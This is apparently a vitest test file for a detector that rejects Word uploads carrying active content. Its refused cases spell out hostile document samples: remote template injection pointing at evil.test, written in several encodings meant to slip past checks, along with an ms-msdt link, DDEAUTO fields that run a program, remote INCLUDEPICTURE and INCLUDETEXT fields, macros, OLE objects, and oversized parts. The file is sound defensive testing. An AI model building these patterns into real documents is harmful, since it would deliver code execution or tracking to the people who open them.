import { describe, expect, it } from 'vitest'
import { hasActiveContent } from '../../functions/src/media/active-content.ts'
import { compoundFile, docx } from '../support/word.ts'

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const referring = (attributes: string, part = 'word/_rels/document.xml.rels', more = {}) =>
  docx({
    more: {
      [part]: `<?xml version="1.0"?><Relationships><Relationship Id="r1" ${attributes}/></Relationships>`,
      ...more,
    },
  })
const external = (type: string, target: string) =>
  `Type="${office}/${type}" Target="${target}" TargetMode="External"`
const settings = 'word/_rels/settings.xml.rels'

describe('A Word document', () => {
  it.each<readonly [string, Buffer]>([
    ['with nothing but text', docx()],
    [
      'with links to the web and to a mail address',
      referring(external('hyperlink', 'https://doi.org/10.1/x&amp;y')),
    ],
    [
      'with a page number, a date, a list of contents, and a text that speaks of a link',
      docx({
        more: {
          'word/footer1.xml':
            '<w:ftr><w:instrText> PAGE \\* MERGEFORMAT </w:instrText><w:fldSimple w:instr=" TOC \\o &quot;1-3&quot; "/><w:t>LINK, DDE</w:t></w:ftr>',
        },
      }),
    ],
    ['with a mail address', referring(external('hyperlink', 'mailto:asha@college.test'))],
    ['with a link that names no scheme', referring(external('hyperlink', 'www.example.org'))],
    ['with a picture inside', referring(`Type="${office}/image" Target="media/image1.png"`)],
    [
      'begun with a template of the writer’s own',
      referring(
        external('attachedTemplate', 'file:///C:\\Users\\Asha%20V\\Templates\\Resume.dotx'),
        settings,
      ),
    ],
    [
      'begun with a template on a Mac',
      referring(external('attachedTemplate', 'file:///Users/asha/Resume.dotx'), settings),
    ],
    [
      'with a chart',
      referring(
        `Type="${office}/package" Target="../embeddings/Sheet1.xlsx"`,
        'word/charts/_rels/chart1.xml.rels',
      ),
    ],
  ])('%s is taken', async (_what, bytes) => {
    expect(await hasActiveContent('docx', bytes)).toBe(false)
  })

  it.each<readonly [string, Buffer]>([
    [
      'a template from the web',
      referring(external('attachedTemplate', 'https://evil.test/x.dotm'), settings),
    ],
    [
      'a template from another machine',
      referring(external('attachedTemplate', '\\\\evil.test\\x.dotm'), settings),
    ],
    ['the same, as an address', referring(external('attachedTemplate', 'file://evil.test/x.dotm'), settings)],
    [
      'the same, with more slashes',
      referring(external('attachedTemplate', 'file:////evil.test/x.dotm'), settings),
    ],
    [
      'the same, in percent signs',
      referring(external('attachedTemplate', '%5c%5cevil.test%5cx.dotm'), settings),
    ],
    [
      'the same, with characters by number',
      referring(
        `Type="${office}/attachedTemplate" Target="&#104;ttps://evil.test/x" TargetMode="Ext&#x65;rnal"`,
        settings,
      ),
    ],
    [
      'the same, with quotes and a prefix of another kind',
      docx({
        more: {
          [settings]: `<p:Relationships xmlns:p="x"><p:Relationship Id='a>b' TargetMode='External' Target='https://evil.test/x' Type='${office}/attachedTemplate'></p:Relationship></p:Relationships>`,
        },
      }),
    ],
    [
      'the same, in UTF-16',
      docx({
        more: {
          [settings]: Buffer.from(
            `\ufeff<Relationships><Relationship ${external('attachedTemplate', 'https://evil.test/x')}/></Relationships>`,
            'utf16le',
          ),
        },
      }),
    ],
    ['a picture from the web', referring(external('image', 'https://evil.test/seen.png'))],
    ['a link that starts a program', referring(external('hyperlink', 'ms-msdt:/id'))],
    ['a link to another machine', referring(external('hyperlink', 'file://evil.test/x'))],
    [
      'an object of another program',
      referring(`Type="${office}/oleObject" Target="embeddings/oleObject1.bin"`),
    ],
    ['a file inside', referring(`Type="${office}/package" Target="embeddings/x.docm"`)],
    ['a control', referring(`Type="${office}/control" Target="activeX/activeX1.xml"`)],
    [
      'macros, by the relationship',
      referring('Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"'),
    ],
    ...[
      [
        'another program that is asked',
        '<w:instrText xml:space="preserve"> DDEAUTO c:\\x.exe "/k" </w:instrText>',
      ],
      [
        'the same in pieces',
        '<w:instrText>DD</w:instrText></w:r><w:r><w:instrText a="b">E x y</w:instrText>',
      ],
      ['the same, with characters by number', '<w:instrText>&#68;&#x44;E x y</w:instrText>'],
      ['a picture that is taken in', '<w:fldSimple w:instr=\' INCLUDEPICTURE "https://evil.test/x.png" \'/>'],
      ['a file that is taken in', '<x:instrText>INCLUDETEXT "\\\\evil.test\\x"</x:instrText>'],
    ].map(
      ([what, field]) =>
        [`a field: ${what}`, docx({ more: { 'word/header1.xml': `<w:hdr>${field}</w:hdr>` } })] as const,
    ),
    ['a number that is no character', referring(external('image', 'https://evil.test/&#x110000;&#1114112;'))],
    ['texts past all measure', docx({ more: { 'word/a.xml': ' '.repeat(33 * 1024 * 1024) } })],
    ['macros, by the part', docx({ more: { 'word\\VbaProject.bin': 'x' } })],
    ['macros, by the type', docx({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' })],
    ['two parts of one name', docx({ more: { 'WORD/document.xml': '<w:document/>' } })],
    [
      'texts that are named elsewhere',
      docx({ more: { [settings]: '<!DOCTYPE x [<!ENTITY e "External">]><Relationships/>' } }),
    ],
    ['a part past all measure', docx({ more: { [settings]: ' '.repeat(256 * 1024 + 1) } })],
    [
      'many parts past all measure',
      docx({
        more: Object.fromEntries(
          Array.from({ length: 6 }, (_, at) => [`word/_rels/${at}.rels`, ' '.repeat(256 * 1024)]),
        ),
      }),
    ],
    ['relationships that nobody can read', docx({ more: { [settings]: '<Relationship "'.repeat(17_000) } })],
    ['no directory', docx().subarray(0, 120)],
  ])('with %s is refused', async (_what, bytes) => {
    expect(await hasActiveContent('docx', bytes)).toBe(true)
  })
})

describe('An old Word document', () => {
  it.each([
    ['with nothing but text', compoundFile(), false],
    [
      'that speaks of an ObjectPool',
      Buffer.concat([compoundFile(), Buffer.from('An ObjectPool, a _VBA_PROJECT.', 'utf16le')]),
      false,
    ],
    ['with macros', Buffer.concat([compoundFile(), compoundFile('_VBA_PROJECT')]), true],
    ['with an object of another program', Buffer.concat([compoundFile(), compoundFile('ObjectPool')]), true],
  ])('%s', async (_what, bytes, isActive) => {
    expect(await hasActiveContent('doc', bytes)).toBe(isActive)
  })
})
